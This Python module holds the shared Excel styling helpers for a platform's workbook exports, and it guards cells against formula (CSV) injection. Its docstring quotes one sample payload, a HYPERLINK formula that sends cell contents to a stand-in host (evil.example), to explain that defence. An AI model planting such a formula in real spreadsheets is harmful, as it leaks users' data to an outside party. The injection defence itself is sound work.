"""Shared look of every workbook the platform writes (R-3.7): fonts, fills, borders, number formats.

Builders use write-only worksheets, so cells are `WriteOnlyCell`s styled through `styled_cell`, and
sheet-level settings (frozen panes, column widths, page setup) must be set before the first row. The ledger
export, the largest, writes through XlsxWriter instead (ledgers/export_writers.py, issue 21), with these
same styles and the same rule for user text; its openpyxl writer is kept as the reference a test compares with.

Styling a cell attribute by attribute makes openpyxl hash the font, fill, border and alignment and look
each up in the workbook's style tables, for every cell; most of an export's time went there. So each
distinct combination is resolved once per workbook, through openpyxl's own attribute setters, and its
style array (the indices into those tables) is copied to every further cell, as openpyxl itself does
when it copies a cell. Pass the shared style objects below (or other long-lived ones): the cache knows
a style by the identity of its objects.

User text is never a formula (formula or "CSV" injection, OWASP). openpyxl turns any string that starts
with "=" into a formula and "#N/A" and its kin into error values, so a project named
`=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")` would become a live link in 项目台账. Exporters
write every cell that can hold user text through `styled_cell` (write-only sheets) or `text_cell`
(ordinary sheets), and there a string is held as text:

- its cell type is forced to an (inline) string, so the file holds the text and no formula or error;
- a text that starts with one of OWASP's formula triggers (=, +, -, @, tab, carriage return) also gets
  the "quote prefix" style: what Excel does with a typed leading apostrophe. Excel and WPS show the text
  unchanged, without an apostrophe, and keep it as text when someone edits the cell and presses Enter,
  where a plain string cell would be re-read as a formula.

So a cell reads back (openpyxl, data_only=False) as the same text, with data_type "s", never "f". Only
strings are looked at, one first-character test each: numbers (Decimal, int, float, negative ones too)
stay numeric cells, and the multi-million-cell city-year export pays next to nothing. The platform writes
no CSV today; one that does must put an apostrophe in front of such a text (a CSV has no cell types, so the
visible prefix is OWASP's defence there).
"""

import unicodedata
import weakref
from collections.abc import Iterable, Sequence
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.styles.cell_style import StyleArray
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.properties import PageSetupProperties

FONT_NAME = "宋体"

TITLE_FONT = Font(name=FONT_NAME, size=16, bold=True)
SUBTITLE_FONT = Font(name=FONT_NAME, size=10, color="595959")
HEADER_FONT = Font(name=FONT_NAME, size=10, bold=True)
BODY_FONT = Font(name=FONT_NAME, size=10)
TOTAL_FONT = Font(name=FONT_NAME, size=10, bold=True)
NOTE_FONT = Font(name=FONT_NAME, size=9, italic=True, color="595959")
GAP_FONT = Font(name=FONT_NAME, size=10, color="C00000")  # a month with no accepted figures (查漏补缺)

HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
TOTAL_FILL = PatternFill("solid", fgColor="F2F2F2")

_THIN = Side(style="thin", color="808080")
BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)

CENTER = Alignment(horizontal="center", vertical="center", wrap_text=True)
LEFT = Alignment(horizontal="left", vertical="center", wrap_text=False)
WRAP = Alignment(horizontal="left", vertical="center", wrap_text=True)
RIGHT = Alignment(horizontal="right", vertical="center")
TITLE_ALIGNMENT = Alignment(horizontal="center")

INTEGER_FORMAT = "#,##0"
PERCENT_FORMAT = "0.0"  # a share already expressed in percent, e.g. 45.3 for 45.3 %


def number_format(decimal_places: int) -> str:
    """'#,##0' for integers, '#,##0.00' for two decimals, and so on."""
    return INTEGER_FORMAT if decimal_places <= 0 else f"#,##0.{'0' * decimal_places}"


MONEY_FORMAT = number_format(2)


# OWASP's list of the first characters that make a spreadsheet program read a cell's text as a formula.
FORMULA_TRIGGERS = frozenset("=+-@\t\r")


def _hold_as_text(cell) -> None:
    # openpyxl typed "=…" as a formula ("f") and "#N/A" as an error ("e"); the value itself is the text.
    cell.data_type = "s"
    if cell._value[0] in FORMULA_TRIGGERS:
        cell.quotePrefix = True  # on this cell's own copy of the style array


def text_cell(cell):
    """Hold `cell`'s string (if it has one) as text, never a formula; for ordinary (not write-only) sheets,
    after `ws.cell(…, value=…)`. Returns the cell; numbers and empty cells are left as they are."""
    value = cell._value
    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or cell.data_type != "s"):
        _hold_as_text(cell)
    return cell


# workbook → {(id(font), id(fill), id(border), id(alignment), number format): (style array, the style objects)}
# The entry keeps its objects alive, so their ids cannot be reused by other objects while it exists.
_STYLE_ARRAYS: "weakref.WeakKeyDictionary[object, dict[tuple, tuple[StyleArray, tuple]]]" = weakref.WeakKeyDictionary()
_NUMBER = (int, float, Decimal)


def _style_array(ws, font, fill, border, alignment, number_format) -> StyleArray:
    workbook = ws.parent
    arrays = _STYLE_ARRAYS.get(workbook)
    if arrays is None:
        arrays = _STYLE_ARRAYS[workbook] = {}
    key = (id(font), id(fill), id(border), id(alignment), number_format)
    entry = arrays.get(key)
    if entry is None:
        cell = WriteOnlyCell(ws)
        cell.font = font
        if fill is not None:
            cell.fill = fill
        if border is not None:
            cell.border = border
        if alignment is not None:
            cell.alignment = alignment
        if number_format is not None:
            cell.number_format = number_format
        entry = arrays[key] = (cell._style, (font, fill, border, alignment))
    return entry[0]


def styled_cell(ws, value, *, font=BODY_FONT, fill=None, border=BORDER, alignment=None, number_format=None):
    """A write-only cell with the house style; `value` may be None for an empty, bordered cell.

    A string is always held as text, never a formula (see the module's docstring)."""
    if alignment is None and isinstance(value, _NUMBER):
        alignment = RIGHT
    # As WriteOnlyCell(ws, value) with the style array copied in (Cell copies the array it is given).
    cell = Cell(
        ws, row=1, column=1, value=value, style_array=_style_array(ws, font, fill, border, alignment, number_format)
    )
    # Inline rather than text_cell(): this runs for every cell of the city-year export.
    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or cell.data_type != "s"):
        _hold_as_text(cell)
    return cell


def header_row(ws, labels: Iterable[str]) -> list[WriteOnlyCell]:
    return [styled_cell(ws, label, font=HEADER_FONT, fill=HEADER_FILL, alignment=CENTER) for label in labels]


def title_cell(ws, text: str) -> WriteOnlyCell:
    return styled_cell(ws, text, font=TITLE_FONT, border=None, alignment=TITLE_ALIGNMENT)


def subtitle_cell(ws, text: str) -> WriteOnlyCell:
    return styled_cell(ws, text, font=SUBTITLE_FONT, border=None, alignment=LEFT)


def note_cell(ws, text: str) -> WriteOnlyCell:
    return styled_cell(ws, text, font=NOTE_FONT, border=None, alignment=LEFT)


def merge_across(ws, row: int, columns: int) -> None:
    """Merge columns 1..`columns` of `row` (write-only sheets write merges at the end, so any time works)."""
    if columns > 1:
        ws.merged_cells.add(f"A{row}:{get_column_letter(columns)}{row}")


def text_width(text: str) -> int:
    """The columns a one-line `text` takes in a sheet, in Excel's unit (a digit of the default font): a Chinese
    character or full-width sign (（）：、) two, anything else one."""
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)


HEADER_PADDING = 2  # room either side of a header, and for its bold face
HEADER_HEIGHT = 22  # one line of the header font, with air


def fitted_widths(widths: Sequence[float], headers: Sequence[str]) -> list[float]:
    """`widths`, each widened to hold its column's header on one line: a header that wraps breaks where the column
    ends, often just before its closing ）, which then stands alone on the last line."""
    return [max(width, text_width(str(header)) + HEADER_PADDING) for width, header in zip(widths, headers, strict=True)]


def prepare_sheet(
    ws, *, widths: Sequence[float], header_row_number: int, freeze_columns: int = 0, headers: Sequence[str] = ()
) -> None:
    """Column widths, frozen header, print titles, landscape and fit-to-width; given the `headers`, every column is
    as wide as its header on one line (fitted_widths) and the header row one line high.

    Must run before the first `ws.append`: a write-only sheet writes these settings with its first row.
    """
    if headers:
        widths = fitted_widths(widths, headers)
        ws.row_dimensions[header_row_number].height = HEADER_HEIGHT
    for index, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = width
    ws.freeze_panes = f"{get_column_letter(freeze_columns + 1)}{header_row_number + 1}"
    ws.print_title_rows = f"{header_row_number}:{header_row_number}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = 9  # A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0  # as many pages down as needed
    ws.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    ws.print_options.horizontalCentered = True
